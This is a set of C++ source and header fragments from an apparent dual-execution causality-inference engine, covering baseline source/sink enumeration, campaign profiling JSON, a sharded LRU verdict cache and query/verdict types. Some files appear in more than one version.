    File,      ///< read on a world file
    Peer,      ///< recv from a scripted peer
    Incoming,  ///< recv on an inbound (accepted) connection
    Clock,     ///< time / rdtsc
    Rand,      ///< random
    Pid,       ///< getpid
};

/** Stable slug of a source class ("env", "file", ...). */
const char *sourceClassName(SourceClass c);

/** One candidate source: a resource touched by input syscalls. */
struct SourceCandidate
{
    std::string id;            ///< "src:<class>:<resource>" (stable)
    SourceClass klass = SourceClass::Env;
    std::string resource;      ///< kernel resource key
    /**
     * How the mutation layer perturbs this source (valid only when
     * queryable). The offset is filled in by the campaign planner.
     */
    core::SourceSpec spec;
    bool queryable = false;
    std::vector<std::uint64_t> events; ///< baseline event ids
};

/** One candidate sink: an output channel hit by the baseline. */
struct SinkCandidate
{
    std::string id;            ///< "sink:<channel>" (stable)
    std::string channel;
    std::vector<std::uint64_t> events; ///< baseline event ids
    std::vector<int> sites;    ///< distinct static sites, first-seen order
};

/** Result of the baseline enumeration run. */
struct BaselineEnumeration
{
    /**
     * Recorded events, oldest first. At most `eventCap` events are
     * retained (the newest are dropped, `droppedEvents` counts them);
     * source/sink aggregation always sees the full stream.
     */
    std::vector<BaselineEvent> events;
    std::uint64_t totalEvents = 0;
    std::uint64_t droppedEvents = 0;

    /** Candidate sources, ordered by first baseline touch. */
    std::vector<SourceCandidate> sources;

    /** Candidate sinks, ordered by first baseline touch. */
    std::vector<SinkCandidate> sinks;

    // Baseline termination.
    std::int64_t exitCode = 0;
    bool trapped = false;
    std::string trapMessage;
    std::uint64_t instructions = 0;

    /** Queryable subset of `sources`, in order. */
    std::vector<const SourceCandidate *> queryableSources() const;
};

/** Enumeration options. */
struct EnumerateOptions
{
    /** Sink channels considered (same predicate the engine uses). */
    core::SinkConfig sinks;

    /** Retained-event cap (aggregation is unaffected). */
    std::uint64_t eventCap = 1 << 16;

    /** VM configuration (defaults match the engine). */
    vm::MachineConfig vmConfig;
};

/**
 * Run @p module (counter-instrumented; fatal otherwise) natively
 * against @p world and enumerate sources and sinks. Deterministic:
 * the same module and world always produce the same enumeration.
 */
BaselineEnumeration enumerateBaseline(const ir::Module &module,
                                      const os::WorldSpec &world,
                                      const EnumerateOptions &opts);

} // namespace ldx::query
