#include "query/profile.h"

#include <algorithm>
#include <cstddef>
#include <map>
#include <numeric>
#include <utility>
#include <vector>

#include "obs/json.h"
#include "support/stats.h"

namespace ldx::query {

namespace {

/** min/mean/p50/p95/p99/max summary of @p s as one JSON object. */
std::string
statsJson(const RunningStats &s)
{
    std::string out = "{";
    out += "\"count\":" +
           obs::jsonNumber(static_cast<std::uint64_t>(s.count()));
    out += ",\"min\":" + obs::jsonNumber(s.min());
    out += ",\"mean\":" + obs::jsonNumber(s.mean());
    out += ",\"p50\":" + obs::jsonNumber(s.p50());
    out += ",\"p95\":" + obs::jsonNumber(s.p95());
    out += ",\"p99\":" + obs::jsonNumber(s.p99());
    out += ",\"max\":" + obs::jsonNumber(s.max());
    out += "}";
    return out;
}

} // namespace

std::string
profileJson(const CampaignResult &res, const obs::MetricsSnapshot &snap,
            const ProfileOptions &opt)
{
    const std::size_t total = res.queries.size();

    // Disposition counts, same partition as the campaign.queries.*
    // fold: every query lands in exactly one bucket.
    std::uint64_t cached = 0, cancelled = 0, failed = 0, timed_out = 0,
                  completed = 0;
    // Executed (non-cached, Done) queries carry the timing data.
    RunningStats exec_s, wait_s;
    std::vector<std::size_t> executed;
    for (std::size_t i = 0; i < total; ++i) {
        if (res.fromCache[i]) {
            ++cached;
            continue;
        }
        switch (res.outcomes[i].status) {
          case RunStatus::Cancelled: ++cancelled; continue;
          case RunStatus::Failed: ++failed; break;
          case RunStatus::Done:
            if (res.verdicts[i] &&
                res.verdicts[i]->quality == VerdictQuality::TimedOut)
                ++timed_out;
            else
                ++completed;
            break;
        }
        executed.push_back(i);
        exec_s.add(res.outcomes[i].seconds);
        wait_s.add(res.outcomes[i].queueWaitSeconds);
    }

    std::string out = "{\"schema\":\"ldx-campaign-profile-v1\"";

    out += ",\"queries\":{";
    out += "\"total\":" + obs::jsonNumber(static_cast<std::uint64_t>(total));
    out += ",\"completed\":" + obs::jsonNumber(completed);
    out += ",\"cached\":" + obs::jsonNumber(cached);
    out += ",\"timed_out\":" + obs::jsonNumber(timed_out);
    out += ",\"cancelled\":" + obs::jsonNumber(cancelled);
    out += ",\"failed\":" + obs::jsonNumber(failed);
    out += ",\"dual_executions\":" + obs::jsonNumber(res.dualExecutions);
    out += "}";

    out += ",\"latency_seconds\":" + statsJson(exec_s);
    out += ",\"queue_wait_seconds\":" + statsJson(wait_s);

    out += ",\"cache\":{";
    out += "\"hits\":" + obs::jsonNumber(res.cacheHits);
    out += ",\"misses\":" + obs::jsonNumber(res.cacheMisses);
    out += ",\"evictions\":" + obs::jsonNumber(res.cacheEvictions);
    out += ",\"disk_loads\":" +
           obs::jsonNumber(snap.counterOr("campaign.cache.disk_loads"));
    out += ",\"disk_stores\":" +
           obs::jsonNumber(snap.counterOr("campaign.cache.disk_stores"));
    out += "}";

    out += ",\"sched\":{";
    out += "\"jobs\":" + obs::jsonNumber(snap.gaugeOr("campaign.sched.jobs"));
    out += ",\"steals\":" +
           obs::jsonNumber(snap.counterOr("campaign.sched.steals"));
    out += ",\"utilization\":" +
           obs::jsonNumber(snap.gaugeOr("campaign.sched.utilization"));
    out += ",\"worker_busy_seconds\":[";
    for (std::size_t w = 0;; ++w) {
        std::string key = "campaign.sched.worker." + std::to_string(w) +
                          ".busy_seconds";
        double busy = snap.gaugeOr(key, -1.0); // busy time is never < 0
        if (busy < 0.0)
            break;
        if (w)
            out += ",";
        out += obs::jsonNumber(busy);
    }
    out += "]}";

    out += ",\"phases\":[";
    for (std::size_t i = 0; i < res.phases.size(); ++i) {
        if (i)
            out += ",";
        out += "{\"name\":" + obs::jsonString(res.phases[i].name);
        out += ",\"seconds\":" + obs::jsonNumber(res.phases[i].seconds);
        out += "}";
    }
    out += "]";

    // Top-N slowest executed queries, per-phase breakdown each.
    // Ties break on query index so the ordering is reproducible.
    std::sort(executed.begin(), executed.end(),
              [&](std::size_t a, std::size_t b) {
                  if (res.outcomes[a].seconds != res.outcomes[b].seconds)
                      return res.outcomes[a].seconds >
                             res.outcomes[b].seconds;
                  return a < b;
              });
    if (executed.size() > opt.topN)
        executed.resize(opt.topN);
    out += ",\"slowest\":[";
    for (std::size_t r = 0; r < executed.size(); ++r) {
        std::size_t i = executed[r];
        const CampaignQuery &q = res.queries[i];
        const RunOutcome &o = res.outcomes[i];
        if (r)
            out += ",";
        out += "{\"rank\":" +
               obs::jsonNumber(static_cast<std::uint64_t>(r + 1));
        out += ",\"query\":" +
               obs::jsonNumber(static_cast<std::uint64_t>(i));
        out += ",\"source\":" + obs::jsonString(q.sourceId);
        out += ",\"policy\":" + obs::jsonString(
                   core::mutationStrategyName(q.strategy));
        out += ",\"status\":" + obs::jsonString(runStatusName(o.status));
        out += ",\"quality\":" +
               (res.verdicts[i]
                    ? obs::jsonString(
                          verdictQualityName(res.verdicts[i]->quality))
                    : std::string("null"));
        out += ",\"seconds\":" + obs::jsonNumber(o.seconds);
        out += ",\"queue_wait_seconds\":" +
               obs::jsonNumber(o.queueWaitSeconds);
        out += ",\"worker\":" +
               obs::jsonNumber(static_cast<std::int64_t>(o.worker));
        out += "}";
    }
    out += "]}";
    return out;
}

namespace {

/** One merged heat-map site as a JSON object. */
std::string
heatSiteJson(const obs::ProfileMeta &meta, const SiteHeatEntry &e)
{
    const obs::SiteMeta *sm = nullptr;
    if (e.fn < meta.fns.size() &&
        e.idx < meta.fns[e.fn].sites.size())
        sm = &meta.fns[e.fn].sites[e.idx];
    std::string out = "{\"fn\":";
    out += e.fn < meta.fns.size()
               ? obs::jsonString(meta.fns[e.fn].name)
               : obs::jsonString("#" + std::to_string(e.fn));
    out += ",\"idx\":" +
           obs::jsonNumber(static_cast<std::uint64_t>(e.idx));
    if (sm) {
        out += ",\"op\":" + obs::jsonString(sm->op);
        out += ",\"line\":" +
               obs::jsonNumber(static_cast<std::int64_t>(sm->line));
        out += ",\"col\":" +
               obs::jsonNumber(static_cast<std::int64_t>(sm->col));
        if (sm->siteId >= 0)
            out += ",\"site\":" + obs::jsonNumber(sm->siteId);
    }
    out += ",\"retired\":" + obs::jsonNumber(e.retired);
    out += ",\"syscalls\":" + obs::jsonNumber(e.syscalls);
    out += ",\"sys_ticks\":" + obs::jsonNumber(e.sysTicks);
    out += ",\"d_retired\":" + obs::jsonNumber(e.dRetired);
    out += "}";
    return out;
}

/** Fold @p prof into the (fn, idx)-keyed accumulator @p acc. */
void
heatMerge(std::map<std::pair<std::uint32_t, std::uint32_t>,
                   SiteHeatEntry> &acc,
          const std::vector<SiteHeatEntry> &prof)
{
    for (const SiteHeatEntry &e : prof) {
        SiteHeatEntry &slot = acc[{e.fn, e.idx}];
        slot.fn = e.fn;
        slot.idx = e.idx;
        slot.retired += e.retired;
        slot.syscalls += e.syscalls;
        slot.sysTicks += e.sysTicks;
        slot.dRetired += e.dRetired;
    }
}

/**
 * Rank @p acc's sites with @p hotter, cap at @p topSites, and emit
 * the JSON array.
 */
std::string
heatRankedJson(const obs::ProfileMeta &meta,
               const std::map<std::pair<std::uint32_t, std::uint32_t>,
                              SiteHeatEntry> &acc,
               std::size_t topSites,
               bool (*hotter)(const SiteHeatEntry &,
                              const SiteHeatEntry &))
{
    std::vector<SiteHeatEntry> ranked;
    ranked.reserve(acc.size());
    for (const auto &kv : acc)
        ranked.push_back(kv.second);
    std::stable_sort(ranked.begin(), ranked.end(), hotter);
    if (ranked.size() > topSites)
        ranked.resize(topSites);
    std::string out = "[";
    for (std::size_t i = 0; i < ranked.size(); ++i) {
        if (i)
            out += ",";
        out += heatSiteJson(meta, ranked[i]);
    }
    out += "]";
    return out;
}

bool
hotterByRetired(const SiteHeatEntry &a, const SiteHeatEntry &b)
{
    if (a.retired != b.retired)
        return a.retired > b.retired;
    return std::make_pair(a.fn, a.idx) < std::make_pair(b.fn, b.idx);
}

bool
hotterByDelta(const SiteHeatEntry &a, const SiteHeatEntry &b)
{
    if (a.dRetired != b.dRetired)
        return a.dRetired > b.dRetired;
    if (a.retired != b.retired)
        return a.retired > b.retired;
    return std::make_pair(a.fn, a.idx) < std::make_pair(b.fn, b.idx);
}

} // namespace

std::string
siteHeatJson(const CampaignResult &res, const obs::ProfileMeta &meta,
             std::size_t topSites)
{
    using HeatMap = std::map<std::pair<std::uint32_t, std::uint32_t>,
                             SiteHeatEntry>;

    // Program-wide merge plus one accumulator per source id, both
    // folded in query-index order (the campaign's aggregation order).
    HeatMap global;
    std::vector<std::string> source_order;
    std::map<std::string, HeatMap> per_source;
    std::map<std::string, std::uint64_t> source_queries;
    std::uint64_t profiled = 0;
    for (std::size_t i = 0; i < res.queries.size(); ++i) {
        const std::vector<SiteHeatEntry> &prof = res.queryProfiles[i];
        if (prof.empty())
            continue;
        ++profiled;
        heatMerge(global, prof);
        const std::string &src = res.queries[i].sourceId;
        if (per_source.find(src) == per_source.end())
            source_order.push_back(src);
        heatMerge(per_source[src], prof);
        ++source_queries[src];
    }

    std::string out = "{\"schema\":\"ldx-site-heat-v1\"";
    out += ",\"program\":" + obs::jsonString(meta.program);
    out += ",\"queries\":" + obs::jsonNumber(
               static_cast<std::uint64_t>(res.queries.size()));
    out += ",\"profiled_queries\":" + obs::jsonNumber(profiled);

    out += ",\"sites\":" +
           heatRankedJson(meta, global, topSites, hotterByRetired);

    // Sources in enumeration (first-appearance) order; sites ranked
    // by the causal footprint of that source's mutations.
    out += ",\"sources\":[";
    for (std::size_t s = 0; s < source_order.size(); ++s) {
        const std::string &src = source_order[s];
        if (s)
            out += ",";
        out += "{\"source\":" + obs::jsonString(src);
        out += ",\"queries\":" + obs::jsonNumber(source_queries[src]);
        out += ",\"sites\":" + heatRankedJson(meta, per_source[src],
                                              topSites, hotterByDelta);
        out += "}";
    }
    out += "]}";
    return out;
}

} // namespace ldx::query
