#include "query/profile.h"

#include <algorithm>
#include <cstddef>
#include <numeric>
#include <vector>

#include "obs/json.h"
#include "support/stats.h"

namespace ldx::query {

namespace {

/** min/mean/p50/p95/p99/max summary of @p s as one JSON object. */
std::string
statsJson(const RunningStats &s)
{
    std::string out = "{";
    out += "\"count\":" +
           obs::jsonNumber(static_cast<std::uint64_t>(s.count()));
    out += ",\"min\":" + obs::jsonNumber(s.min());
    out += ",\"mean\":" + obs::jsonNumber(s.mean());
    out += ",\"p50\":" + obs::jsonNumber(s.p50());
    out += ",\"p95\":" + obs::jsonNumber(s.p95());
    out += ",\"p99\":" + obs::jsonNumber(s.p99());
    out += ",\"max\":" + obs::jsonNumber(s.max());
    out += "}";
    return out;
}

} // namespace

std::string
profileJson(const CampaignResult &res, const obs::MetricsSnapshot &snap,
            const ProfileOptions &opt)
{
    const std::size_t total = res.queries.size();

    // Disposition counts, same partition as the campaign.queries.*
    // fold: every query lands in exactly one bucket.
    std::uint64_t cached = 0, cancelled = 0, failed = 0, timed_out = 0,
                  completed = 0;
    // Executed (non-cached, Done) queries carry the timing data.
    RunningStats exec_s, wait_s;
    std::vector<std::size_t> executed;
    for (std::size_t i = 0; i < total; ++i) {
        if (res.fromCache[i]) {
            ++cached;
            continue;
        }
        switch (res.outcomes[i].status) {
          case RunStatus::Cancelled: ++cancelled; continue;
          case RunStatus::Failed: ++failed; break;
          case RunStatus::Done:
            if (res.verdicts[i] &&
                res.verdicts[i]->quality == VerdictQuality::TimedOut)
                ++timed_out;
            else
                ++completed;
            break;
        }
        executed.push_back(i);
        exec_s.add(res.outcomes[i].seconds);
        wait_s.add(res.outcomes[i].queueWaitSeconds);
    }

    std::string out = "{\"schema\":\"ldx-campaign-profile-v1\"";

    out += ",\"queries\":{";
    out += "\"total\":" + obs::jsonNumber(static_cast<std::uint64_t>(total));
    out += ",\"completed\":" + obs::jsonNumber(completed);
    out += ",\"cached\":" + obs::jsonNumber(cached);
    out += ",\"timed_out\":" + obs::jsonNumber(timed_out);
    out += ",\"cancelled\":" + obs::jsonNumber(cancelled);
    out += ",\"failed\":" + obs::jsonNumber(failed);
    out += ",\"dual_executions\":" + obs::jsonNumber(res.dualExecutions);
    out += "}";

    out += ",\"latency_seconds\":" + statsJson(exec_s);
    out += ",\"queue_wait_seconds\":" + statsJson(wait_s);

    out += ",\"cache\":{";
    out += "\"hits\":" + obs::jsonNumber(res.cacheHits);
    out += ",\"misses\":" + obs::jsonNumber(res.cacheMisses);
    out += ",\"evictions\":" + obs::jsonNumber(res.cacheEvictions);
    out += ",\"disk_loads\":" +
           obs::jsonNumber(snap.counterOr("campaign.cache.disk_loads"));
    out += ",\"disk_stores\":" +
           obs::jsonNumber(snap.counterOr("campaign.cache.disk_stores"));
    out += "}";

    out += ",\"sched\":{";
    out += "\"jobs\":" + obs::jsonNumber(snap.gaugeOr("campaign.sched.jobs"));
    out += ",\"steals\":" +
           obs::jsonNumber(snap.counterOr("campaign.sched.steals"));
    out += ",\"utilization\":" +
           obs::jsonNumber(snap.gaugeOr("campaign.sched.utilization"));
    out += ",\"worker_busy_seconds\":[";
    for (std::size_t w = 0;; ++w) {
        std::string key = "campaign.sched.worker." + std::to_string(w) +
                          ".busy_seconds";
        double busy = snap.gaugeOr(key, -1.0); // busy time is never < 0
        if (busy < 0.0)
            break;
        if (w)
            out += ",";
        out += obs::jsonNumber(busy);
    }
    out += "]}";

    out += ",\"phases\":[";
    for (std::size_t i = 0; i < res.phases.size(); ++i) {
        if (i)
            out += ",";
        out += "{\"name\":" + obs::jsonString(res.phases[i].name);
        out += ",\"seconds\":" + obs::jsonNumber(res.phases[i].seconds);
        out += "}";
    }
    out += "]";

    // Top-N slowest executed queries, per-phase breakdown each.
    // Ties break on query index so the ordering is reproducible.
    std::sort(executed.begin(), executed.end(),
              [&](std::size_t a, std::size_t b) {
                  if (res.outcomes[a].seconds != res.outcomes[b].seconds)
                      return res.outcomes[a].seconds >
                             res.outcomes[b].seconds;
                  return a < b;
              });
    if (executed.size() > opt.topN)
        executed.resize(opt.topN);
    out += ",\"slowest\":[";
    for (std::size_t r = 0; r < executed.size(); ++r) {
        std::size_t i = executed[r];
        const CampaignQuery &q = res.queries[i];
        const RunOutcome &o = res.outcomes[i];
        if (r)
            out += ",";
        out += "{\"rank\":" +
               obs::jsonNumber(static_cast<std::uint64_t>(r + 1));
        out += ",\"query\":" +
               obs::jsonNumber(static_cast<std::uint64_t>(i));
        out += ",\"source\":" + obs::jsonString(q.sourceId);
        out += ",\"policy\":" + obs::jsonString(
                   core::mutationStrategyName(q.strategy));
        out += ",\"status\":" + obs::jsonString(runStatusName(o.status));
        out += ",\"quality\":" +
               (res.verdicts[i]
                    ? obs::jsonString(
                          verdictQualityName(res.verdicts[i]->quality))
                    : std::string("null"));
        out += ",\"seconds\":" + obs::jsonNumber(o.seconds);
        out += ",\"queue_wait_seconds\":" +
               obs::jsonNumber(o.queueWaitSeconds);
        out += ",\"worker\":" +
               obs::jsonNumber(static_cast<std::int64_t>(o.worker));
        out += "}";
    }
    out += "]}";
    return out;
}

} // namespace ldx::query
