/**
 * @file
 * Result cache for the batch causality-inference engine.
 *
 * A campaign query's verdict is fully determined by (program, world,
 * source, mutation policy) — the dual-execution protocol makes the
 * verdict independent of the driver, worker count, and completion
 * order — so verdicts are cached under exactly that key:
 *
 *   (program hash, world hash, source id, policy)
 *
 * The in-memory tier is a bounded LRU map. When a cache directory is
 * configured, verdicts are additionally persisted as small text
 * records (one file per key, named by the key hash), so a re-run of
 * the same campaign — or an overlapping campaign over the same
 * program/world — performs zero dual executions for the shared
 * queries. Hit/miss/eviction tallies land in the campaign's metrics
 * registry (campaign.cache.*).
 */
#pragma once

#include <cstdint>
#include <list>
#include <map>
#include <optional>
#include <string>
#include <vector>

#include "obs/registry.h"
#include "query/verdict.h"

namespace ldx::query {

/** Cache key of one query. */
struct CacheKey
{
    std::uint64_t programHash = 0; ///< fnv1a of the printed IR
    std::uint64_t worldHash = 0;   ///< fnv1a of the canonical world
    std::string sourceId;          ///< SourceCandidate::id + offset
    std::string policy;            ///< mutationStrategyName

    /** Stable file/hash name of this key. */
    std::string digest() const;

    bool
    operator<(const CacheKey &o) const
    {
        if (programHash != o.programHash)
            return programHash < o.programHash;
        if (worldHash != o.worldHash)
            return worldHash < o.worldHash;
        if (sourceId != o.sourceId)
            return sourceId < o.sourceId;
        return policy < o.policy;
    }
};

/** Canonical world serialization backing CacheKey::worldHash. */
std::string canonicalWorld(const os::WorldSpec &world);

/** fnv1a of the canonical serialization of @p world. */
std::uint64_t hashWorld(const os::WorldSpec &world);

/** fnv1a of the printed IR of @p module. */
std::uint64_t hashProgram(const ir::Module &module);

/** Bounded LRU verdict cache with optional directory persistence. */
class ResultCache
{
  public:
    /**
     * @param capacity  in-memory entry cap (>= 1)
     * @param dir       persistence directory ("" = memory only); it
     *                  is created on first store
     * @param registry  campaign metrics registry (may be null)
     */
    ResultCache(std::size_t capacity, std::string dir,
                obs::Registry *registry);

    /** Verdict for @p key, or nullopt. Counts a hit or a miss. */
    std::optional<QueryVerdict> lookup(const CacheKey &key);

    /** Insert (or refresh) @p verdict under @p key. */
    void store(const CacheKey &key, const QueryVerdict &verdict);

    std::size_t size() const { return entries_.size(); }
    std::uint64_t hits() const { return hits_; }
    std::uint64_t misses() const { return misses_; }
    std::uint64_t evictions() const { return evictions_; }

  private:
    void touch(std::map<CacheKey, std::size_t>::iterator it);
    void storeInMemory(const CacheKey &key, const QueryVerdict &verdict);
    std::optional<QueryVerdict> loadFromDisk(const CacheKey &key);
    void storeToDisk(const CacheKey &key, const QueryVerdict &verdict);

    std::size_t capacity_;
    std::string dir_;
    obs::Registry *registry_;

    // LRU bookkeeping: entries_ maps key -> slot in slots_; lru_
    // orders slot indices, most recent first.
    struct Slot
    {
        CacheKey key;
        QueryVerdict verdict;
        std::list<std::size_t>::iterator lruPos;
    };
    std::map<CacheKey, std::size_t> entries_;
    std::vector<Slot> slots_;
    std::vector<std::size_t> freeSlots_;
    std::list<std::size_t> lru_;

    std::uint64_t hits_ = 0;
    std::uint64_t misses_ = 0;
    std::uint64_t evictions_ = 0;
};

/**
 * Serialize @p verdict as the versioned text record used by the disk
 * tier (docs/CAMPAIGN.md "Cache key & record format").
 */
std::string serializeVerdict(const QueryVerdict &verdict);

/** Parse a record; nullopt on version mismatch or corruption. */
std::optional<QueryVerdict> parseVerdict(const std::string &text);

} // namespace ldx::query
