/**
 * @file
 * Result cache for the batch causality-inference engine.
 *
 * A campaign query's verdict is fully determined by (program, world,
 * source, mutation policy) — the dual-execution protocol makes the
 * verdict independent of the driver, worker count, and completion
 * order — so verdicts are cached under exactly that key:
 *
 *   (program hash, world hash, source id, policy)
 *
 * The in-memory tier is a bounded LRU map. When a cache directory is
 * configured, verdicts are additionally persisted as small text
 * records (one file per key, named by the key hash), so a re-run of
 * the same campaign — or an overlapping campaign over the same
 * program/world — performs zero dual executions for the shared
 * queries. Hit/miss/eviction tallies land in the campaign's metrics
 * registry (campaign.cache.*).
 */
#pragma once

#include <atomic>
#include <condition_variable>
#include <cstdint>
#include <functional>
#include <list>
#include <map>
#include <memory>
#include <mutex>
#include <optional>
#include <set>
#include <string>
#include <vector>

#include "obs/registry.h"
#include "query/verdict.h"

namespace ldx::query {

/** Cache key of one query. */
struct CacheKey
{
    std::uint64_t programHash = 0; ///< fnv1a of the printed IR
    std::uint64_t worldHash = 0;   ///< fnv1a of the canonical world
    std::string sourceId;          ///< SourceCandidate::id + offset
    std::string policy;            ///< mutationStrategyName

    /** Stable file/hash name of this key. */
    std::string digest() const;

    bool
    operator<(const CacheKey &o) const
    {
        if (programHash != o.programHash)
            return programHash < o.programHash;
        if (worldHash != o.worldHash)
            return worldHash < o.worldHash;
        if (sourceId != o.sourceId)
            return sourceId < o.sourceId;
        return policy < o.policy;
    }
};

/** Canonical world serialization backing CacheKey::worldHash. */
std::string canonicalWorld(const os::WorldSpec &world);

/** fnv1a of the canonical serialization of @p world. */
std::uint64_t hashWorld(const os::WorldSpec &world);

/** fnv1a of the printed IR of @p module. */
std::uint64_t hashProgram(const ir::Module &module);

/** Bounded LRU verdict cache with optional directory persistence. */
class ResultCache
{
  public:
    /**
     * @param capacity  in-memory entry cap (>= 1)
     * @param dir       persistence directory ("" = memory only); it
     *                  is created on first store
     * @param registry  campaign metrics registry (may be null)
     */
    ResultCache(std::size_t capacity, std::string dir,
                obs::Registry *registry);

    /** Verdict for @p key, or nullopt. Counts a hit or a miss. */
    std::optional<QueryVerdict> lookup(const CacheKey &key);

    /**
     * Like lookup() but a failed probe does not count as a miss.
     * The sharded tier uses this to avoid charging a miss to a
     * waiter that is about to be served by an in-flight compute.
     */
    std::optional<QueryVerdict> peek(const CacheKey &key);

    /** Insert (or refresh) @p verdict under @p key. */
    void store(const CacheKey &key, const QueryVerdict &verdict);

    std::size_t size() const { return entries_.size(); }
    std::uint64_t hits() const { return hits_; }
    std::uint64_t misses() const { return misses_; }
    std::uint64_t evictions() const { return evictions_; }
    std::uint64_t diskLoads() const { return diskLoads_; }
    std::uint64_t diskStores() const { return diskStores_; }

  private:
    friend class ShardedResultCache;

    void touch(std::map<CacheKey, std::size_t>::iterator it);
    void storeInMemory(const CacheKey &key, const QueryVerdict &verdict);
    std::optional<QueryVerdict> loadFromDisk(const CacheKey &key);
    void storeToDisk(const CacheKey &key, const QueryVerdict &verdict);

    std::size_t capacity_;
    std::string dir_;
    obs::Registry *registry_;

    // LRU bookkeeping: entries_ maps key -> slot in slots_; lru_
    // orders slot indices, most recent first.
    struct Slot
    {
        CacheKey key;
        QueryVerdict verdict;
        std::list<std::size_t>::iterator lruPos;
    };
    std::map<CacheKey, std::size_t> entries_;
    std::vector<Slot> slots_;
    std::vector<std::size_t> freeSlots_;
    std::list<std::size_t> lru_;

    std::uint64_t hits_ = 0;
    std::uint64_t misses_ = 0;
    std::uint64_t evictions_ = 0;
    std::uint64_t diskLoads_ = 0;
    std::uint64_t diskStores_ = 0;
};

/**
 * Process-wide concurrent verdict cache: N independently locked
 * shards, each a bounded ResultCache, all sharing one disk tier.
 * The global in-memory cap is split evenly across shards so the
 * whole structure never holds more than @p capacity entries. Keys
 * are routed to shards by digest hash, so every thread agrees on
 * the owning shard and the per-shard lock serializes that key.
 *
 * Metrics are double-booked: every operation bumps the process-wide
 * registry passed to the constructor under `serve.cache.*`, and the
 * optional per-call @p tenant registry under the same
 * `campaign.cache.*` names the single-threaded ResultCache uses —
 * so a campaign served through the shared cache reports the exact
 * counters an offline run of the same job would.
 */
class ShardedResultCache
{
  public:
    /**
     * @param capacity  global in-memory entry cap (>= 1)
     * @param shards    shard count (clamped to [1, capacity])
     * @param dir       shared persistence directory ("" = memory only)
     * @param registry  process-wide metrics registry (may be null)
     */
    ShardedResultCache(std::size_t capacity, std::size_t shards,
                       std::string dir, obs::Registry *registry);

    /** Verdict for @p key, or nullopt. Counts a hit or a miss. */
    std::optional<QueryVerdict> lookup(const CacheKey &key,
                                       obs::Registry *tenant = nullptr);

    /** Insert (or refresh) @p verdict under @p key. */
    void store(const CacheKey &key, const QueryVerdict &verdict,
               obs::Registry *tenant = nullptr);

    /**
     * Return the cached verdict for @p key, computing it via @p fn at
     * most once per residency even when many threads ask at once:
     * the first requester computes (outside the shard lock) while
     * later requesters block until the result lands, then read it as
     * a hit. @p computed reports whether this call ran @p fn.
     */
    QueryVerdict getOrCompute(const CacheKey &key,
                              const std::function<QueryVerdict()> &fn,
                              bool *computed = nullptr,
                              obs::Registry *tenant = nullptr);

    std::size_t shardCount() const { return shards_.size(); }
    std::size_t size() const;
    std::uint64_t hits() const;
    std::uint64_t misses() const;
    std::uint64_t evictions() const;

  private:
    struct Shard
    {
        Shard(std::size_t capacity, std::string dir)
            : cache(capacity, std::move(dir), nullptr)
        {}
        std::mutex mutex;
        std::condition_variable cv;
        ResultCache cache;
        std::set<std::string> inflight; ///< digests being computed
    };

    Shard &shardFor(const CacheKey &key);
    std::optional<QueryVerdict> peekLocked(Shard &shard,
                                           const CacheKey &key,
                                           obs::Registry *tenant);
    void countMiss(obs::Registry *tenant);
    void storeLocked(Shard &shard, const CacheKey &key,
                     const QueryVerdict &verdict, obs::Registry *tenant);

    std::vector<std::unique_ptr<Shard>> shards_;
    obs::Registry *registry_;
    std::atomic<std::uint64_t> missCount_{0};
};

/**
 * Serialize @p verdict as the versioned text record used by the disk
 * tier (docs/CAMPAIGN.md "Cache key & record format"). Records end
 * with an `end\t<fnv1a>` sentinel line covering everything before
 * it, so a record truncated by a killed or crashed writer — even at
 * a clean line boundary — parses as corrupt rather than as a
 * shorter-but-valid verdict.
 */
std::string serializeVerdict(const QueryVerdict &verdict);

/** Parse a record; nullopt on version mismatch or corruption. */
std::optional<QueryVerdict> parseVerdict(const std::string &text);

} // namespace ldx::query
