/**
 * @file
 * Campaign query and verdict types shared by the scheduler, the
 * result cache, and the causality-graph aggregator.
 *
 * A *query* asks: does this baseline source influence any sink, under
 * one mutation policy? A *verdict* is the distilled, deterministic
 * answer — which sinks diffed, with what evidence kind, and how
 * trustworthy the run was (clean / decoupled / timed-out). Verdicts
 * deliberately exclude wall-clock timing and scheduling-dependent
 * tallies so that the aggregated graph is byte-identical across
 * worker counts, completion orders, and drivers.
 */
#pragma once

#include <cstdint>
#include <string>
#include <vector>

#include "ldx/mutation.h"
#include "ldx/report.h"

namespace ldx::query {

/** One (source, policy) causality query. */
struct CampaignQuery
{
    std::size_t index = 0;       ///< dense id; aggregation order
    std::string sourceId;        ///< SourceCandidate::id
    std::string sourceResource;  ///< kernel resource key
    core::SourceSpec spec;       ///< mutation target (offset applied)
    core::MutationStrategy strategy = core::MutationStrategy::OffByOne;

    /** Cache source-id: candidate id plus the mutation offset. */
    std::string cacheSourceId() const;
};

/** Evidence quality of one dual execution. */
enum class VerdictQuality
{
    Clean,     ///< coupled run, no decoupling beyond the mutation
    Decoupled, ///< syscalls misaligned; verdict still sound (§4.2)
    TimedOut,  ///< deadline/watchdog expired; verdict incomplete
};

/** Stable slug of a quality ("clean", "decoupled", "timed-out"). */
const char *verdictQualityName(VerdictQuality q);

/** Aggregated evidence that one sink diffed under a query. */
struct EdgeEvidence
{
    std::string sinkId;  ///< "sink:<channel>" or a VM-level sink
    std::string kind;    ///< causeKindName of the finding
    std::uint64_t count = 0;

    bool
    operator==(const EdgeEvidence &o) const
    {
        return sinkId == o.sinkId && kind == o.kind && count == o.count;
    }
};

/** Deterministic verdict of one query. */
struct QueryVerdict
{
    bool causality = false;
    VerdictQuality quality = VerdictQuality::Clean;

    /** Evidence per sink, sorted by (sinkId, kind). */
    std::vector<EdgeEvidence> edges;

    std::int64_t masterExit = 0;
    std::int64_t slaveExit = 0;
    bool masterTrapped = false;
    bool slaveTrapped = false;
    std::uint64_t alignedSyscalls = 0;
    std::uint64_t syscallDiffs = 0;
    std::uint64_t findings = 0;

    bool
    operator==(const QueryVerdict &o) const
    {
        return causality == o.causality && quality == o.quality &&
               edges == o.edges && masterExit == o.masterExit &&
               slaveExit == o.slaveExit &&
               masterTrapped == o.masterTrapped &&
               slaveTrapped == o.slaveTrapped &&
               alignedSyscalls == o.alignedSyscalls &&
               syscallDiffs == o.syscallDiffs && findings == o.findings;
    }
};

/**
 * Distill @p res into a verdict: map each finding onto its sink node
 * ("sink:<channel>" for syscall sinks; "sink:ret-token",
 * "sink:alloc-size", "sink:termination" for the VM-level sinks),
 * aggregate evidence counts, and grade the run's quality.
 */
QueryVerdict verdictFromResult(const core::DualResult &res);

} // namespace ldx::query
