#include "query/verdict.h"

#include <algorithm>
#include <map>

namespace ldx::query {

std::string
CampaignQuery::cacheSourceId() const
{
    std::string off = spec.offset == core::SourceSpec::kWholeValue
